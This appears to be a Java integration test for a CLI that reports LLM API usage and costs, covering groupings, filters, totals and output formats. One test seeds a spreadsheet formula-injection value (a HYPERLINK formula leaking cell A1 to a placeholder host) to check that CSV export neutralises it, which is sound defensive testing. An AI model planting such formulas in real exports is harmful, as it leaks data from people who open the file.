package dev.aegis.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.aegis.home.AegisHome;
import dev.aegis.json.Json;
import dev.aegis.keys.ApiKeys;
import dev.aegis.keys.NewKey;
import dev.aegis.store.AgentSession;
import dev.aegis.store.Database;
import dev.aegis.store.SqlKeyStore;
import dev.aegis.store.UsageRow;
import dev.aegis.store.UsageStore;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.InstantSource;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@code aegis usage} over rows in a real SQLite file: groups, filters, totals and each format. */
class UsageCliIT {

    @TempDir
    Path temp;

    String home;

    private static UsageRow row(Instant ts, String key, String tenant, String run, String model, String provider,
            long input, long cached, long output, long costNanos) {
        return new UsageRow(ts.toEpochMilli(), "req-" + ts.toEpochMilli() + key + model, key, tenant, run,
                "/v1/chat/completions", model, model, provider, 200, null, input, cached, 0, output, 0, costNanos, false,
                "v", 10.0, 5.0, false, true);
    }

    @BeforeEach
    void seed() {
        home = temp.resolve("home").toString();
        Instant now = Instant.now();
        try (Database db = Database.open(Database.defaultUrl(new AegisHome(Path.of(home))))) {
            new UsageStore(db).insert(List.of(
                    row(now.minus(Duration.ofHours(1)), "k1", "team-a", "run-1", "gpt-4o-mini", "openai", 100, 20, 10, 1500),
                    row(now.minus(Duration.ofHours(2)), "k1", "team-a", "run-1", "gpt-4o-mini", "openai", 200, 0, 20, 3000),
                    row(now.minus(Duration.ofHours(3)), "k2", "team-b", null, "claude-sonnet-4-5", "anthropic", 500, 400, 15,
                            795_000),
                    row(now.minus(Duration.ofDays(40)), "k2", "team-b", null, "claude-sonnet-4-5", "anthropic", 1, 0, 1, 7)));
        }
    }

    private CliRun aegis(String... args) {
        return CliRun.run(Map.of("COLUMNS", "100"), CliRun.args(home, args));
    }

    @Test
    void jsonGroupsAndTotalsDefaultToTheLast30Days() throws Exception {
        CliRun run = aegis("usage", "--format", "json");
        assertThat(run.exitCode()).as(run.all()).isZero();
        JsonNode report = Json.mapper().readTree(run.out());

        assertThat(report.path("groups").findValuesAsText("group")).containsExactly("claude-sonnet-4-5", "gpt-4o-mini");
        JsonNode mini = report.path("groups").get(1);
        for (String field : new String[] {"group", "requests", "input", "cached_input", "cache_write", "output", "reasoning",
                "cost_usd"}) {
            assertThat(mini.has(field)).as(field).isTrue();
        }
        assertThat(mini.path("requests").asLong()).isEqualTo(2);
        assertThat(mini.path("input").asLong()).isEqualTo(300);
        assertThat(mini.path("cached_input").asLong()).isEqualTo(20);
        assertThat(mini.path("cost_usd").decimalValue()).isEqualByComparingTo("0.0000045");
        assertThat(report.at("/total/requests").asLong()).isEqualTo(3);
        assertThat(report.at("/total/cost_usd").decimalValue()).isEqualByComparingTo("0.0007995");
    }

    @Test
    void byKeyShowsEachKeysNameBesideItsId() throws Exception {
        String id;
        try (Database db = Database.open(Database.defaultUrl(new AegisHome(Path.of(home))))) {
            id = new SqlKeyStore(db, InstantSource.system()).create(new NewKey("laptop", "team-a", false, List.of(), null,
                    null, null, null), ApiKeys.mint()).id();
            new UsageStore(db).insert(List.of(row(Instant.now(), id, "team-a", null, "gpt-4o-mini", "openai", 1, 0, 1, 10)));
        }
        CliRun table = aegis("usage", "--by", "key");
        assertThat(table.exitCode()).as(table.all()).isZero();
        assertThat(table.out().lines().findFirst().orElseThrow()).contains("KEY").contains("NAME");
        assertThat(table.out().lines().filter(l -> l.startsWith(id))).singleElement().asString().contains("laptop");
        assertThat(table.out().lines().filter(l -> l.startsWith("k1"))).singleElement().asString().contains(" - ");

        JsonNode json = Json.mapper().readTree(aegis("usage", "--by", "key", "--json").out());
        JsonNode laptop = null;
        for (JsonNode g : json.path("groups")) {
            if (g.path("key_id").asText().equals(id)) {
                laptop = g;
            }
        }
        assertThat(laptop).isNotNull();
        assertThat(laptop.path("key_name").asText()).isEqualTo("laptop");
        assertThat(aegis("usage", "--by", "key", "--format", "csv").out()).contains(id + ",laptop,1,");
    }

    @Test
    void filtersAndGroupings() throws Exception {
        JsonNode byTenant = Json.mapper().readTree(aegis("usage", "--by", "tenant", "--json", "--since", "60d").out());
        assertThat(byTenant.path("groups").findValuesAsText("group")).containsExactly("team-b", "team-a");
        assertThat(byTenant.at("/total/requests").asLong()).isEqualTo(4);

        JsonNode run = Json.mapper().readTree(aegis("usage", "--run", "run-1", "--by", "run", "--json").out());
        assertThat(run.at("/total/requests").asLong()).isEqualTo(2);

        JsonNode key = Json.mapper().readTree(aegis("usage", "--key", "k2", "--by", "provider", "--json").out());
        assertThat(key.path("groups").findValuesAsText("group")).containsExactly("anthropic");

        JsonNode model = Json.mapper().readTree(aegis("usage", "--model", "gpt-4o-mini", "--by", "day", "--json").out());
        assertThat(model.at("/total/requests").asLong()).isEqualTo(2);
        assertThat(model.at("/groups/0/group").asText()).matches("\\d{4}-\\d{2}-\\d{2}");

        JsonNode old = Json.mapper().readTree(aegis("usage", "--since", "60d", "--until",
                java.time.LocalDate.now(java.time.ZoneOffset.UTC).minusDays(30).toString(), "--json").out());
        assertThat(old.at("/total/requests").asLong()).isEqualTo(1);
    }

    @Test
    void csvAndTableWithChart() {
        CliRun csv = aegis("usage", "--format", "csv");
        assertThat(csv.out().lines().toList()).containsExactly(
                "group,requests,input,cached_input,cache_write,output,reasoning,cost_usd,cache_hit_rate",
                "claude-sonnet-4-5,1,500,400,0,15,0,0.000795,0.8000",
                "gpt-4o-mini,2,300,20,0,30,0,0.0000045,0.0667",
                "total,3,800,420,0,45,0,0.0007995,0.5250");

        CliRun table = aegis("usage", "--chart");
        assertThat(table.out()).contains("MODEL", "REQUESTS", "COST_USD", "gpt-4o-mini", "total", "0.000800", "█");
    }

    @Test
    void aCsvCellThatStartsLikeAFormulaIsShownNotEvaluated() {
        try (Database db = Database.open(Database.defaultUrl(new AegisHome(Path.of(home))))) {
            new UsageStore(db).insert(List.of(row(Instant.now(), "k3", "t", "=HYPERLINK(\"http://x/?\"&A1,\"c\")", "m",
                    "openai", 1, 0, 1, 1), row(Instant.now().minusSeconds(1), "k3", "t", "@SUM(A1)", "m", "openai", 1, 0, 1, 1)));
        }
        List<String> lines = aegis("usage", "--by", "run", "--format", "csv").out().lines().toList();
        assertThat(lines).contains("\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"c\"\")\",1,1,0,0,1,0,0.000000001,0.0000",
                "'@SUM(A1),1,1,0,0,1,0,0.000000001,0.0000");
    }

    @Test
    void bySessionClientAndAgentWithTheCacheHitRate() throws Exception {
        Instant now = Instant.now();
        try (Database db = Database.open(Database.defaultUrl(new AegisHome(Path.of(home))))) {
            new UsageStore(db).insert(List.of(
                    session(now.minusSeconds(60), "sess-1", null, "claude-code", 1000, 900),
                    session(now.minusSeconds(50), "sess-1", "agent-a", "claude-code", 1000, 100),
                    session(now.minusSeconds(40), "sess-2", null, "codex_cli_rs", 400, 0)));
        }
        JsonNode bySession = Json.mapper().readTree(aegis("usage", "--by", "session", "--json").out());
        assertThat(bySession.path("groups").findValuesAsText("group")).containsExactly("sess-1", "sess-2", "(none)");
        assertThat(bySession.at("/groups/0/requests").asLong()).isEqualTo(2);
        assertThat(bySession.at("/groups/0/cache_hit_rate").decimalValue()).isEqualByComparingTo("0.5");
        assertThat(bySession.at("/groups/1/cache_hit_rate").decimalValue()).isEqualByComparingTo("0");

        JsonNode byClient = Json.mapper().readTree(aegis("usage", "--by", "client", "--json").out());
        assertThat(byClient.path("groups").findValuesAsText("group")).containsExactly("claude-code", "codex_cli_rs", "(none)");
        JsonNode byAgent = Json.mapper().readTree(aegis("usage", "--by", "agent", "--json").out());
        assertThat(byAgent.path("groups").findValuesAsText("group")).contains("agent-a");

        CliRun table = aegis("usage", "--by", "session");
        assertThat(table.exitCode()).as(table.all()).isZero();
        assertThat(table.out().lines().findFirst().orElseThrow()).contains("SESSION").contains("CACHE_HIT");
        assertThat(table.out().lines().filter(l -> l.startsWith("sess-1"))).singleElement().asString().contains("50.0%");
        assertThat(table.out().lines().filter(l -> l.startsWith("sess-2"))).singleElement().asString().contains("0.0%");
    }

    private static UsageRow session(Instant ts, String session, String agent, String client, long input, long cached) {
        return new UsageRow(ts.toEpochMilli(), "req-" + ts.toEpochMilli() + session, "k1", "team-a", null,
                "/v1/messages", "claude-sonnet-4-5", "claude-sonnet-4-5", "anthropic", 200, null, input, cached, 0, 10, 0,
                1_000_000, false, "v", 10.0, 5.0, false, true, null, new AgentSession(session, agent, client));
    }

    @Test
    void badArgumentsAreClear() {
        assertThat(aegis("usage", "--by", "colour").err()).contains("--by must be one of");
        assertThat(aegis("usage", "--since", "last tuesday").err()).contains("is not a time");
        assertThat(aegis("usage", "--format", "xml").exitCode()).isEqualTo(ExitCode.USAGE);
    }
}
